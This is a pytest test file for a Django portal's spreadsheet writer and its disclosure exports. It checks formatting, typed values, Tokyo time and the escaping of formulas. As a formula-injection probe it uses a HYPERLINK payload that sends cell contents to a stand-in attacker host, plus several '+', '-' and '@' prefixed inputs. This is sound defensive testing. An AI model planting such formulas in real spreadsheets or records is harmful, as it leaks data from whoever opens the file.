"""The one xlsx writer (portal.xlsx) and the exports that use it: reopened with openpyxl."""

import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from lxml import etree
from openpyxl import load_workbook

from portal import xlsx

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def reopen(data):
    return load_workbook(io.BytesIO(data))


def test_a_list_sheet_has_a_frozen_bold_header_a_filter_and_widths():
    book = xlsx.Workbook()
    book.list_sheet("people", ["氏名", "Amount"], [["山田花子", 1200], ["Bob", 3]])
    ws = reopen(book.save())["people"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:B3"
    assert ws["A1"].font.b
    assert ws.column_dimensions["A"].width >= 10  # four wide characters


def test_a_preamble_moves_the_header_frozen_and_filtered_below_it():
    book = xlsx.Workbook()
    book.list_sheet("l", ["h"], [["v"]], preamble=[["Researcher", "x"], []])
    ws = reopen(book.save())["l"]
    assert ws.freeze_panes == "A4" and ws.auto_filter.ref == "A3:A4"


def test_values_are_typed_cells():
    book = xlsx.Workbook()
    book.list_sheet("t", ["a"] * 6, [[3, 2.5, Decimal("12.5"), dt.date(2025, 4, 1), True, None]])
    row = next(reopen(book.save())["t"].iter_rows(min_row=2, values_only=True))
    assert row == (3, 2.5, 12.5, dt.datetime(2025, 4, 1), True, None)


def test_datetimes_are_written_in_tokyo_time():
    book = xlsx.Workbook()
    late_utc = dt.datetime(2025, 3, 31, 20, 30, tzinfo=dt.UTC)  # 2025-04-01 05:30 in Tokyo
    book.list_sheet("t", ["at"], [[late_utc]])
    ws = reopen(book.save())["t"]
    assert ws["A2"].value == dt.datetime(2025, 4, 1, 5, 30)
    assert ws["A2"].is_date


def test_a_date_on_a_marked_row_keeps_both_the_fill_and_the_date_format():
    book = xlsx.Workbook()
    book.list_sheet("t", ["due"], [([dt.date(2025, 4, 1)], xlsx.RED)], row_styles=True)
    cell = reopen(book.save())["t"]["A2"]
    assert (cell.is_date, cell.fill.fgColor.rgb[-6:]) == (True, "F8D7DA")


def test_a_formula_comes_out_as_text():
    book = xlsx.Workbook()
    book.list_sheet("t", [HYPERLINK], [[HYPERLINK, "+1", "-2", "@SUM(A1)", "\t=1"]])
    ws = reopen(book.save())["t"]
    assert ws["A1"].value == "'" + HYPERLINK and ws["A1"].data_type == "s"
    assert [c.data_type for c in ws[2]] == ["s"] * 5
    assert ws["A2"].value == "'" + HYPERLINK


def test_styled_sheets_keep_values_styles_and_drop_what_xml_cannot_hold():
    book = xlsx.Workbook()
    book.sheet("Register", iter([
        (["Reference", "Name"], xlsx.BOLD),
        (["RC-1", " leading space", 3, 2.5, None, "", "=HYPERLINK(1)", True, "日本語 & <x>",
          "bell\x07tab\tline\nend"], xlsx.PLAIN, xlsx.RED),
        (list(range(30)), xlsx.PLAIN),
    ]), styled=True)
    book.sheet("Heat map: [1/2]?", [([1, 2], xlsx.PLAIN)], styled=True)
    data = book.save()
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            etree.fromstring(zf.read(name))  # every part is well-formed XML
    wb = reopen(data)
    assert wb.sheetnames == ["Register", "Heat map 12"]
    ws = wb.worksheets[0]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[1][:10] == ("RC-1", " leading space", 3, 2.5, None, None, "'=HYPERLINK(1)", True,
                            "日本語 & <x>", "belltab\tline\nend")
    assert rows[2][29] == 29
    assert ws["A1"].font.b and ws["B1"].font.b
    assert ws["A2"].fill.fgColor.rgb.endswith("F8D7DA") and ws["B2"].fill.fill_type is None


@pytest.mark.parametrize(("stored", "expected"), [
    ("1200000", 1200000), ("1,200,000", 1200000), ("12.5", Decimal("12.5")), ("", None),
    ("abc", "abc"), (None, None), (5, 5), ("nan", "nan")])
def test_stored_numeric_strings_become_numbers(stored, expected):
    assert xlsx.number(stored) == expected


# --- the exports -------------------------------------------------------------------------


@pytest.fixture
def hostile_accepted(researcher, reviewer):
    from disclosures.models import DisclosureVersion
    from tests.disclosures.factories import accepted_disclosure, foreign_grant, org

    researcher.family_name = HYPERLINK
    researcher.save()
    version = accepted_disclosure(
        researcher, reviewer,
        ("funding", foreign_grant(org("US Science Foundation"), amount=Decimal("1200000"),
                                  effort_percent=Decimal("20"))))
    accepted_at = dt.datetime(2025, 3, 31, 20, 0, tzinfo=dt.UTC)  # 1 April in Tokyo
    DisclosureVersion.objects.filter(pk=version.pk).update(accepted_at=accepted_at)
    return version


def test_grant_application_workbook_guards_the_family_name(client_as, researcher,
                                                            hostile_accepted):
    response = client_as(researcher).get(reverse("disclosures:applications_xlsx"))
    funds = reopen(response.content).worksheets[0]
    assert funds["B1"].data_type == "s" and funds["B1"].value.startswith("'=HYPERLINK(")


def test_grant_application_workbook_writes_amounts_and_effort_as_numbers(client_as, researcher,
                                                                         hostile_accepted):
    response = client_as(researcher).get(reverse("disclosures:applications_xlsx"))
    funds = reopen(response.content).worksheets[0]
    row = next(funds.iter_rows(min_row=5, values_only=True))
    assert row[6] == 1200000 and row[8] == 20


def test_grant_application_workbook_gives_the_acceptance_in_tokyo(client_as, researcher,
                                                                  hostile_accepted):
    response = client_as(researcher).get(reverse("disclosures:applications_xlsx"))
    funds = reopen(response.content).worksheets[0]
    assert funds["C2"].value.date() == dt.date(2025, 4, 1)
    assert funds.freeze_panes == "A5" and funds.auto_filter.ref.startswith("A4:")


def test_all_disclosures_export_is_a_typed_filtered_list(researcher, admin_user,
                                                         hostile_accepted):
    from portal.exports import get_exporter

    _name, _mime, content = get_exporter("disclosures.all").render(
        {"format": "xlsx"}, user=admin_user, progress=lambda *a: None)
    ws = reopen(content).active
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:O")
    row = next(ws.iter_rows(min_row=2))
    assert row[0].value.startswith("'=HYPERLINK(")  # the researcher's display name
    assert row[4].data_type == "n"  # version number
    assert row[7].value == dt.datetime(2025, 4, 1, 5, 0)  # accepted at, Tokyo


def test_csv_export_guards_and_writes_tokyo_time(researcher, admin_user, hostile_accepted):
    from portal.exports import get_exporter

    _name, _mime, content = get_exporter("disclosures.all").render(
        {"format": "csv"}, user=admin_user, progress=lambda *a: None)
    text = content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in text and "2025-04-01 05:00" in text


def test_a_multi_sheet_exporter_writes_one_list_sheet_each(admin_user):
    from portal.exports import MultiSheetListExporter

    class Two(MultiSheetListExporter):
        sheets = (("a", "First"), ("b", "Second"))

        def iterate_a(self, params, *, user, progress):
            yield ["n", "when"]
            yield [1, dt.date(2025, 1, 2)]

        def iterate_b(self, params, *, user, progress):
            yield ["name"]
            yield [HYPERLINK]

    name, _mime, content = Two().render({}, user=admin_user, progress=lambda *a: None)
    wb = reopen(content)
    assert name.endswith(".xlsx") and wb.sheetnames == ["First", "Second"]
    assert wb["First"]["B2"].is_date and wb["Second"]["A2"].value == "'" + HYPERLINK
    assert all(ws.freeze_panes == "A2" and ws.auto_filter.ref for ws in wb.worksheets)
    _name, _mime, csv = Two().render({"format": "csv", "sheet": "b"}, user=admin_user,
                                     progress=lambda *a: None)
    assert csv.decode("utf-8-sig").splitlines()[1].startswith("\"'=HYPERLINK(")
